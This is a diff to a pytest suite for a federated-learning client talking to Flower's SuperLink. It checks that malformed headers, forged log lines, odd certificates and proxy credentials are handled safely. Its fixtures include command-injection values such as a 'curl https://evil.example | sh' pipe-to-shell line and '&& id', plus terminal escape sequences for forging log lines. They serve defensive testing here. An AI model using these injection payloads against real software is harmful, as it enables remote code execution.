@@ -1,5 +1,6 @@
 """Asking the server, from outside: Flower's own SuperLink over TLS, and small servers that are wrong."""
 
+import json
 import socket
 import time
 from contextlib import closing
@@ -10,7 +11,8 @@ import pytest
 
 import client.connection
 from client.connection import ask_server, clock_skew_s
-from client.server_answer import ServerState, proxy_of_environment
+from client.server_answer import Answer, ServerState, proxy_of_environment, without_password
+from client.server_certificate import SeenCertificate
 from common.enrolment import Enrolment
 from common.errors import ConfigError
 from common.flower_programs import free_port
@@ -323,12 +325,149 @@ def test_a_refused_signature_with_a_right_clock_blames_the_way(authority, hospit
     says(answer, "signature", hospital.fingerprint, "proxy or firewall")
 
 
-@pytest.mark.parametrize("said", ["", ";;;", "0.1.0;schema=x;bundle", "0.1.0;schema=²"])
+ODD_ANNOUNCEMENTS = {
+    "nothing": "",
+    "no parts": ";;;",
+    "words": "0.1.0;schema=x;bundle",
+    "a digit of another kind": "0.1.0;schema=²",
+    "more digits than an int takes": f"0.1.0;schema={'9' * 5000};bundle={BUNDLE}",
+    "a command": "0.1.0;schema=1;bundle=0 && curl https://evil.example | sh",
+    "a command behind a digest": f"0.1.0;schema=1;bundle={BUNDLE} && id",
+    "a digest in capitals": f"0.1.0;schema=1;bundle={'A' * 64}",
+    "a command as release": "0.1.0 && id;schema=1;bundle=x",
+    "a long release": f"{'1' * 33};schema=1;bundle=x",
+    "an escape sequence": "0.1.0\x1b[2Jyou are fine;schema=1;bundle=x",
+    "a letter that looks like one": "0.1.0а;schema=1;bundle=x",
+}
+
+
+@pytest.mark.parametrize("said", ODD_ANNOUNCEMENTS.values(), ids=ODD_ANNOUNCEMENTS)
+def test_an_announcement_is_taken_only_in_its_exact_form(said):
+    found = client.connection._announced({"x-hospital-federation": said})
+    assert found["server_release"] in ("", "0.1.0")
+    assert found["server_schema"] in (None, 1)
+    assert found["server_bundle"] in ("", BUNDLE)
+    assert found["server_bundle"] == "" or said.endswith(f"bundle={BUNDLE}")
+
+
+@pytest.mark.parametrize(
+    "said", [said for said in ODD_ANNOUNCEMENTS.values() if said.isascii() and said.isprintable()]
+)
 def test_a_strange_announcement_is_no_error(authority, hospital, tls, said):
-    with tls(503, x_hospital_federation=said.encode().decode("latin-1")) as server:
+    with tls(503, x_hospital_federation=said) as server:
         answer = ask_server(hospital.enrolment(authority, server.port), hospital.key)
     assert answer.state is ServerState.BUSY
-    assert answer.server_schema is None
+    assert answer.server_schema in (None, 1)
+    assert answer.server_bundle in ("", BUNDLE)
+
+
+ODD_DATES = ["", "x", "Fri, 31 Dec 9999 23:59:59 -2359", "Tue, 01 Jan 2030 12:00:00 +99999999999999"]
+ODD_DATES += [
+    "Tue, 99999999999999999999 Jan 1 12:00:00 GMT",
+    "9" * 5000,
+    ",",
+    "a,b c",
+]
+
+
+@pytest.mark.parametrize("date", ODD_DATES)
+def test_a_strange_date_is_no_error(authority, hospital, tls, date):
+    with tls(401, Date=date) as server:
+        answer = ask_server(hospital.enrolment(authority, server.port), hospital.key)
+    assert answer.state is ServerState.OTHER
+    assert answer.clock_skew_s is None
+
+
+FORGED = "fine\x1b[2J\r\n2030-01-01 00:00:00 connected: release 9"
+
+
+def is_fit_for_a_log(answer):
+    lines = answer.text().split("\n")
+    return len(lines) <= 3 and all(line.isprintable() for line in lines)
+
+
+def test_the_words_of_another_program_cannot_forge_a_line(authority, hospital, tls):
+    for body in (json.dumps({"detail": FORGED}).encode(), b"\x1b[31mred\x9b\x85", b"[" * 100_000):
+        with tls(500, body) as server:
+            answer = ask_server(hospital.enrolment(authority, server.port), hospital.key)
+        assert answer.state is ServerState.OTHER
+        assert is_fit_for_a_log(answer), answer.text()
+        assert len(answer.why) < 200
+
+
+def test_a_server_cannot_end_this_process_or_write_into_its_log(authority, hospital, tls, caplog):
+    said = {"code": 1001, "detail": "versions", "extra": FORGED}
+    message = {"flwr-version-incompatibility-message": "forged \x1b[2J"}
+    for status in (412, 400, 500):
+        with tls(status, json.dumps(said).encode(), **message) as server:
+            answer = ask_server(hospital.enrolment(authority, server.port), hospital.key)
+        assert answer.state is ServerState.OTHER
+        says(answer, "another release of Flower", "versions", "install the release")
+    assert "forged" not in caplog.text
+
+
+def test_the_names_in_a_certificate_cannot_forge_a_line(authority, hospital, tls):
+    many = tuple(f"{n}.example.org" for n in range(40))
+    with tls(by=Authority("Inspection\nconnected\x1b[2J"), names=many) as server:
+        answer = ask_server(hospital.enrolment(authority, server.port), hospital.key)
+    assert answer.state is ServerState.CA_WRONG
+    assert is_fit_for_a_log(answer), answer.text()
+    says(answer, "9.example.org and 30 more", "Inspection?connected")
+    assert "10.example.org" not in answer.text()
+
+
+def test_a_certificate_that_cannot_be_read_is_a_value_error_only():
+    for der in (b"", b"\x30\x03\x02\x01\x07", b"\x30" * 50):
+        with pytest.raises(ValueError, match="no certificate"):
+            SeenCertificate.read(der)
+
+
+def test_a_proxy_cannot_forge_a_line(authority, hospital):
+    refusal = b"HTTP/1.1 403 No\x1b[2J connected\r\nContent-Length: 0\r\n\r\n"
+    with proxy(refusal) as way:
+        enrolment = hospital.enrolment(authority, 443, host="fl.invalid")
+        answer = ask_server(enrolment, hospital.key, https_proxy=f"http://127.0.0.1:{way.port}")
+    assert is_fit_for_a_log(answer), answer.text()
+
+
+def test_a_name_that_no_dns_takes_is_unreachable(authority, hospital):
+    for host in ("a" * 70 + ".example", "a..example"):
+        answer = ask_server(hospital.enrolment(authority, 443, host=host), hospital.key)
+        assert answer.state is ServerState.UNREACHABLE
+        says(answer, "DNS")
+
+
+@pytest.mark.parametrize("state", [ServerState.UNREACHABLE, ServerState.TIMEOUT, ServerState.BUSY])
+def test_a_server_that_was_there_has_gone_and_no_firewall_is_to_be_opened(state):
+    answer = Answer(
+        state=state,
+        what="it cannot be reached",
+        why="refused",
+        fix="open the firewall",
+        address="fl.example:8443",
+    )
+    assert "open the firewall" in answer.text()
+    what, why, fix = answer.text(was_connected=True).splitlines()
+    assert what == "the server at fl.example:8443 has gone"
+    assert "was connected before, so its firewall is right" in why
+    assert fix == "nothing is to be done: this client waits and connects by itself"
+
+
+def test_what_a_person_must_mend_is_told_as_it_is_also_later():
+    answer = Answer(state=ServerState.CA_WRONG, what="another authority", why="w", fix="f", address="a:1")
+    assert answer.text(was_connected=True) == answer.text()
+
+
+def test_a_server_that_has_gone_is_told_with_its_address(authority, hospital):
+    port = free_port()
+    answer = ask_server(hospital.enrolment(authority, port), hospital.key)
+    assert answer.text(was_connected=True).startswith(f"the server at 127.0.0.1:{port} has gone\n")
+    for status, has_gone in ((502, True), (503, True), (403, False), (407, False)):
+        with proxy(http_answer(status)) as way:
+            through = f"http://127.0.0.1:{way.port}"
+            answer = ask_server(hospital.enrolment(authority, 443), hospital.key, https_proxy=through)
+        assert answer.state is ServerState.PROXY
+        assert ("has gone" in answer.text(was_connected=True)) is has_gone
 
 
 # Proxies.
@@ -381,6 +520,29 @@ def test_a_proxy_that_is_no_address_is_refused(authority, hospital, wrong):
     with pytest.raises(ConfigError, match="https-proxy") as refused:
         ask_server(hospital.enrolment(authority, 443), hospital.key, https_proxy=wrong)
     assert "http://host:port" in str(refused.value)
+
+
+@pytest.mark.parametrize(
+    "wrong",
+    [
+        "ftp://doctor:secret@proxy:21",
+        "http://doctor:secret/x@proxy:port",
+        "http://doctor:secret#1@proxy:3128",
+        "doctor:secret@proxy:3128",
+        "http://doctor:secret@[proxy",
+    ],
+)
+def test_a_proxys_password_is_in_no_message(authority, hospital, wrong):
+    try:
+        said = ask_server(
+            hospital.enrolment(authority, 443), hospital.key, https_proxy=wrong, timeout_s=1
+        ).text()
+    except ConfigError as error:
+        said = str(error)
+    assert "secret" not in said
+    assert "doctor" not in said
+    assert "proxy" in without_password(wrong)
+    assert "secret" not in without_password(wrong)
 
 
 def test_an_authority_that_is_none_is_refused(authority, hospital):
